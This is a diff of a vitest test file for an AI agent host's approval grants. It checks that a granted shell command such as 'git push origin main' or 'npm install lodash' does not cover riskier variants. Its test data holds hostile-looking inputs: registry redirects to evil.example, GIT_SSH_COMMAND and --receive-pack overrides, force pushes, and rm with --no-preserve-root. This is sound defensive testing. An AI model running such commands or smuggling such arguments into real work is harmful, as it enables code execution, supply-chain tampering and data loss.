@@ -2,10 +2,27 @@ import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { expect, test } from 'vitest'
 import type { GrantChoice, GrantScope } from '../../src/core/approval/grant.ts'
+import type { Sandbox } from '../../src/core/ports/sandbox.ts'
 import { createHost, type Host, type HostOptions, type Reply, type Rule } from '../../src/index.ts'
 import { exampleHost, temporaryFolder } from '../support/example-host.ts'
 
 const ASK_SHELL: Rule = { name: 'ask shell', decision: 'ask', tools: ['shell'], reason: 'a person looks at commands' }
+
+/** Runs nothing: only decisions count here. */
+const IDLE: Sandbox = {
+  isOffline: true,
+  run: async () => ({
+    stdout: '',
+    stderr: '',
+    exitCode: 0,
+    duration: 0,
+    ended: 'exit',
+    mode: 'direct',
+    isOffline: true,
+  }),
+  examine: async () => [],
+  close: async () => undefined,
+}
 
 /** A host whose person says yes with a grant to the first question, and no to every other. */
 async function grantingHost(grant: GrantChoice, options: HostOptions = {}): Promise<Host> {
@@ -49,12 +66,80 @@ test.for([
   expect(expected === 'ask' ? ['ask', 'deny'] : ['allow']).toContain(decision)
 })
 
+test.for<[granted: string, args: string | { command: string; cwd?: string }, expected: 'allow' | 'ask']>([
+  ['rm -rf build', 'rm -rf build', 'allow'],
+  ['rm -rf build', 'rm -rf build -v', 'allow'],
+  ['rm -rf build', 'rm -rf build docs', 'ask'],
+  ['rm -rf build', 'rm -rf build/ docs/..', 'ask'],
+  ['rm -rf build', 'rm -rf build --no-preserve-root', 'ask'],
+  ['rm -rf build', { command: 'rm -rf build', cwd: 'docs' }, 'ask'],
+  ['rm -rf build', 'rm -rf build > README.md', 'ask'],
+  ['rm -rf build', 'rm -rf build 2>/dev/null', 'allow'],
+  ['rm build', 'rm build -rf', 'ask'],
+  ['rm -- build', 'rm -- build -v', 'ask'],
+  ['git push origin main', 'git push origin main', 'allow'],
+  ['git push origin main', 'git push origin main -v --progress', 'allow'],
+  ['git push origin main', 'git push origin main -qv', 'allow'],
+  ['git push origin main', 'git push origin main --force', 'ask'],
+  ['git push origin main', 'git push origin main -f', 'ask'],
+  ['git push origin main', 'git push origin main -vf', 'ask'],
+  ['git push origin main', 'git push --force origin main', 'ask'],
+  ['git push origin main', 'git push origin :main', 'ask'],
+  ['git push origin main', 'git push origin main :main', 'ask'],
+  ['git push origin main', 'git push origin main +dev', 'ask'],
+  ['git push origin main', 'git push origin main --mirror', 'ask'],
+  ['git push origin main', 'git push --mirror', 'ask'],
+  ['git push origin main', 'git push origin main --receive-pack=./x', 'ask'],
+  ['git push origin main', 'GIT_SSH_COMMAND=./x git push origin main', 'ask'],
+  ['git push origin main', 'export GIT_DIR=docs; git push origin main', 'ask'],
+  ['git push', 'git push origin main', 'ask'],
+  ['npm install lodash', 'npm install lodash --silent --no-audit', 'allow'],
+  ['npm install lodash', 'npm install lodash --registry http://evil.example', 'ask'],
+  ['npm install lodash', 'npm install lodash --registry=http://evil.example', 'ask'],
+  ['npm install lodash', 'npm install lodash --prefix /', 'ask'],
+  ['npm install lodash', 'npm install lodash -g', 'ask'],
+  ['npm install lodash', 'npm install lodash evil', 'ask'],
+  ['npm install lodash', 'npm_config_registry=http://evil.example npm install lodash', 'ask'],
+  ['pip install requests', 'pip install requests -q', 'allow'],
+  ['pip install requests', 'pip install requests -i http://evil.example', 'ask'],
+  ['pip install requests', 'pip install requests --target=/', 'ask'],
+  ['make release', 'make release -j4', 'allow'],
+  ['make release', 'make release CC=./x', 'ask'],
+  ['make release', 'make release -f evil.mk', 'ask'],
+  ['npm run build', 'npm run build -- --config evil.js', 'ask'],
+  ['curl https://a.example', 'curl https://a.example -s', 'allow'],
+  ['curl https://a.example', 'curl https://a.example -o README.md', 'ask'],
+  ['frobnicate', 'frobnicate --anything', 'ask'],
+])('"%s" granted, %j is no more than %s', async ([granted, args, expected]) => {
+  const host = await grantingHost({ scope: 'prefix' }, { rules: [ASK_SHELL], sandbox: IDLE })
+  for (const folder of ['build', 'docs/build']) mkdirSync(join(host.workspace, folder), { recursive: true })
+  writeFileSync(join(host.workspace, 'README.md'), 'kept')
+  await host.call('shell', { command: granted })
+  expect(await host.approvals.grants()).toHaveLength(1)
+  mkdirSync(join(host.workspace, 'build'), { recursive: true })
+  const decision = await decide(host, 'shell', typeof args === 'string' ? { command: args } : args)
+  expect(expected === 'ask' ? ['ask', 'deny'] : ['allow']).toContain(decision)
+})
+
+test.for(['python3 - <<EOF\nprint(1)\nEOF', 'bash < docs/a.sh', 'FOO=docs git status'])(
+  'no grant of words is offered where they do not say what would run: %s',
+  async (command) => {
+    const host = await exampleHost({ wait: true, rules: [ASK_SHELL] })
+    const { id, result } = host.start('shell', { command })
+    await expect.poll(async () => (await host.approvals.list()).length).toBe(1)
+    const [record] = await host.approvals.list()
+    expect(record?.request.grants.map(({ scope }) => scope.kind)).toEqual(['exact'])
+    await host.approvals.answer(`a_${id}`, { approved: false })
+    await result
+  },
+)
+
 test('a grant answers only the rules that asked when it was given', async () => {
   const host = await grantingHost({ scope: 'prefix' })
   await host.call('shell', { command: 'git push origin' })
-  expect(await decide(host, 'shell', { command: 'git push origin main' })).toBe('allow')
-  host.addRule({ name: 'look at main', decision: 'ask', tools: ['shell'], commands: ['main'] })
-  expect(await decide(host, 'shell', { command: 'git push origin main' })).toBe('ask')
+  expect(await decide(host, 'shell', { command: 'git push origin --verbose' })).toBe('allow')
+  host.addRule({ name: 'look at details', decision: 'ask', tools: ['shell'], commands: ['verbose'] })
+  expect(await decide(host, 'shell', { command: 'git push origin --verbose' })).toBe('ask')
   expect(await decide(host, 'shell', { command: 'git push origin' })).toBe('allow')
 })
 
